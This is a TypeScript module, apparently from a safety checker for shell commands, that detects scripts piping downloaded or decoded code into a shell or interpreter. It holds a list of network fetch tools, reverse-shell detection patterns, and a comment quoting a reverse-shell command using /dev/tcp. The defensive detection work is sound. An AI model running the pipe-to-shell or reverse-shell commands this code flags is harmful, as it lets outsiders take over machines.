import { SHELLS } from "../../shell/command-wrappers.ts";
import { type ShellCommand, argumentsOf, programName, programOf } from "../../shell/shell-command.ts";
import { textAt, textsOf } from "../../shell/word-fields.ts";
import { UNKNOWN } from "../../shell/unknown.ts";
import { readsScriptFromInput } from "../../shell/wrapped-command.ts";
import type { CallSubject } from "../call-subject.ts";
import { combinedValues, optionValues } from "../../shell/option-values.ts";
import { printsKnownInstaller } from "./known-installers.ts";

/** They read from the network. */
export const FETCHERS = new Set(
  "ssh curl curlie wget wget2 aria2c axel fetch ftp lftp http https xh lynx links w3m nc ncat netcat socat telnet gsutil tftp sftp scp iwr irm invoke-webrequest invoke-restmethod".split(
    " ",
  ),
);
const INTERPRETERS = /^(?:python|pypy|perl|ruby|php|node|nodejs|bun|deno|lua|tclsh|osascript|pwsh|R|Rscript)[0-9.]*$/;

/** A program from the network, or one with hidden text, that would run immediately; undefined if there is none. */
export function detectPipeToShell(subject: CallSubject): string | undefined {
  const { commands } = subject.dissection;
  // A function may have the name of a program, and the program other settings.
  const isOnlyPrograms = !/\b(?:curl|wget|irm)\s*\(|\bfunction\b|\b(?:(?:CURL_)?HOME|WGETRC)=/i.test(
    subject.call.script ?? "",
  );
  const fetched = fetchedFiles(commands, isOnlyPrograms);
  const known = new Map<ShellCommand, boolean>();
  const isSource = (command: ShellCommand): boolean => {
    const before = known.get(command);
    if (before !== undefined) return before;
    const is = outputsUnknownText(command) || argumentsOf(command).some((word) => fetched.has(programName(word.text)));
    known.set(command, is);
    return is;
  };
  const runner = commands.find(
    (command) =>
      !(isOnlyPrograms && runsKnownInstaller(command)) &&
      (runsUnknownText(command, commands, isSource, isOnlyPrograms) ||
        runsFetched(command, fetched) ||
        runsFromSocket(command, commands) ||
        runsFetchedCode(command)),
  );
  return (
    runner && [...runner.pipedFrom.slice(0, 1), runner].map((command) => textsOf(command.words).join(" ")).join(" | ")
  );
}

/** A connection that a shell opens as if it were a file. */
const SOCKET = /^\/dev\/(?:tcp|udp)\//;

function usesSocket({ redirects }: ShellCommand): boolean {
  return redirects.some(({ target }) => SOCKET.test(target?.text ?? ""));
}

/** Whether a shell is connected to a machine: `bash -i >& /dev/tcp/host/1`, or by a descriptor that was opened before. */
function runsFromSocket(command: ShellCommand, all: readonly ShellCommand[]): boolean {
  if (!SHELLS.has(programOf(command))) return false;
  return usesSocket(command) || (command.redirects.some(({ operator }) => operator === "<&") && all.some(usesSocket));
}

/** Whether code in an argument fetches something, and evaluates a text. */
function runsFetchedCode(command: ShellCommand): boolean {
  const evaluates = argumentsOf(command).some(({ text }) => /(?<![.\w])(?:eval|exec)\b/.test(text));
  return evaluates && INTERPRETERS.test(programOf(command)) && outputsUnknownText(command);
}

/** Whether a shell runs what such a command prints, unchanged, and no other text: `curl -LsSf https://astral.sh/uv/install.sh | sh`. */
function runsKnownInstaller(command: ShellCommand): boolean {
  const { pipedFrom, redirects, stdin, words } = command;
  const [source, ...others] = pipedFrom;
  if (source === undefined || others.length > 0 || redirects.length > 0 || stdin !== undefined) return false;
  if (!printsKnownInstaller(source)) return false;
  const program = programOf(command);
  if (isInvoke(program)) return words.length === 1;
  const texts = textsOf(argumentsOf(command));
  if (SHELLS.has(program))
    return readsScriptFromInput(words) && !texts.some((text) => /^--(?:rc|init-)file/.test(text));
  if (program === "php") return texts.every((text) => /^--(?:$|install-dir=|filename=|version=|quiet)/.test(text));
  return /^python[\d.]*$/.test(program) && texts.every((text) => text === "-");
}

/** They have a shell run what they read, at another time. */
const RUNS_LATER = /^(?:at|batch|crontab)$/;

/** Whether a command runs an unknown text that comes from the network or was decoded on the way. */
function runsUnknownText(
  command: ShellCommand,
  all: readonly ShellCommand[],
  isSource: (command: ShellCommand) => boolean,
  isOnlyPrograms: boolean,
): boolean {
  const program = programOf(command);
  if (RUNS_LATER.test(program) && command.stdin === undefined && command.pipedFrom.some(isSource)) return true;
  const isShell = SHELLS.has(program) || isInvoke(program);
  if (isShell || INTERPRETERS.test(program)) {
    const readsInput = isShell
      ? readsScriptFromInput(command.words)
      : argumentsOf(command).every((word) => /^-(?:$|[a-z]$|u)/.test(word.text));
    if (readsInput && command.stdin === undefined && command.pipedFrom.some(isSource)) return true;
  }
  if (!runsTextArgument(program, command)) return false;
  return (
    command.pipedFrom.some(isSource) ||
    all.some(
      (other) =>
        other.wrappers.some((wrapper) => wrapper === "$()" || wrapper === "<()") &&
        isSource(other) &&
        !(isOnlyPrograms && printsKnownInstaller(other) && all.every(({ pipedFrom }) => !pipedFrom.includes(other))),
    )
  );
}

/** `eval`, `sh -c`, `source` and `sh file` with an unknown argument. */
function runsTextArgument(program: string, command: ShellCommand): boolean {
  const takesAll = program === "eval" || isInvoke(program);
  if (takesAll || program === "source" || program === "." || SHELLS.has(program) || INTERPRETERS.test(program)) {
    const inputs = command.redirects.filter(({ operator }) => operator === "<").map(({ target }) => target?.text ?? "");
    const given = textsOf(argumentsOf(command));
    // What follows a script are its arguments.
    const script = given.findIndex((text, index) =>
      [text, given[index - 1]].every((word) => !/^(?:[-+]|run$|x$)/.test(word ?? "")),
    );
    const texts = [...(takesAll || script === -1 ? given : given.slice(0, script + 1)), ...inputs];
    return (
      command.stdin?.includes(UNKNOWN) === true || texts.some((text) => text.includes(UNKNOWN) || text === "/dev/stdin")
    );
  }
  return textAt(command.words, 0).startsWith(UNKNOWN);
}

/** PowerShell's `eval`, which also takes what is piped into it. */
function isInvoke(program: string): boolean {
  return /^(?:iex|invoke-expression)$/i.test(program);
}

/** Whether a command's output comes from the network, or is a text that was unreadable before. */
function outputsUnknownText(command: ShellCommand): boolean {
  const program = programOf(command);
  const text = textsOf(argumentsOf(command)).join(" ");
  if (usesSocket(command) || FETCHERS.has(program.toLowerCase()) || /\.downloadstring\b/i.test(text)) return true;
  if (INTERPRETERS.test(program)) return /https?:\/\/|urllib|requests|socket|Net::HTTP|LWP|fetch\(/.test(text);
  if (/^(?:base64|gbase64|base32|uudecode)$/.test(program)) return /(?:^| )-[a-zA-Z]*[dD]|--decode/.test(text);
  if (program === "xxd") return /(?:^| )-[a-z]*r/.test(text);
  if (program === "openssl") return /s_client|enc .*-d|base64 .*-d/.test(text);
  if (program === "gh") return /^(?:api|gist view|release download)/.test(text);
  return program === "aws" && /s3 cp .* -$/.test(text);
}

/** The files that the same script downloads, other than known installers. */
function fetchedFiles(commands: readonly ShellCommand[], isOnlyPrograms: boolean): ReadonlySet<string> {
  const names = new Set<string>();
  for (const command of commands) {
    if (!FETCHERS.has(programOf(command)) || (isOnlyPrograms && printsKnownInstaller(command))) continue;
    const words = argumentsOf(command);
    const outputs = textsOf([
      ...optionValues(words, ["-o", "--output", "-O", "--output-document"]),
      ...combinedValues(words, "oO"),
      ...words.flatMap(({ text }) => /^-[fsSLkqnv]+[oO](.+)$/.exec(text)?.[1] ?? []).map((text) => ({ text })),
    ]);
    // Without a name, wget and `curl -O` use the last part of the URL.
    const addresses = words
      .map((word) => word.text.replace(/[?#].*/s, ""))
      .filter((text) => /^\w+:\/\/|\.sh$/.test(text));
    for (const name of [...outputs, ...writtenBy(command), ...addresses]) names.add(programName(name));
  }
  for (const command of commands) {
    // A copied or renamed download is still the same program.
    const words = argumentsOf(command).filter((word) => !word.text.startsWith("-"));
    const isCopy =
      /^(?:mv|cp|install|ln)$/.test(programOf(command)) && words.some((word) => names.has(programName(word.text)));
    if (isCopy) names.add(programName(words.at(-1)?.text ?? ""));
    if (words.some((word) => names.has(programName(word.text))))
      for (const name of writtenBy(command)) names.add(programName(name));
    const isTee = programOf(command) === "tee" && command.pipedFrom.some((source) => FETCHERS.has(programOf(source)));
    if (isTee) for (const word of words) names.add(programName(word.text));
  }
  names.delete("");
  return names;
}

/** The files to which a command redirects what it prints. */
function writtenBy({ redirects }: ShellCommand): readonly string[] {
  return redirects.filter(({ operator }) => /^(?:>|>>|>\||&>)$/.test(operator)).map(({ target }) => target?.text ?? "");
}

function runsFetched(command: ShellCommand, fetched: ReadonlySet<string>): boolean {
  const program = textAt(command.words, 0);
  if (program.includes("/") && fetched.has(programName(program))) return true;
  const takesFile =
    SHELLS.has(programName(program)) ||
    INTERPRETERS.test(programName(program)) ||
    program === "." ||
    program === "source";
  if (!takesFile) return false;
  const redirected = command.redirects
    .filter(({ operator }) => operator === "<")
    .map(({ target }) => target?.text ?? "");
  const file = argumentsOf(command).find((word) => !word.text.startsWith("-"))?.text ?? "";
  return [file, ...redirected].some((name) => fetched.has(programName(name)));
}
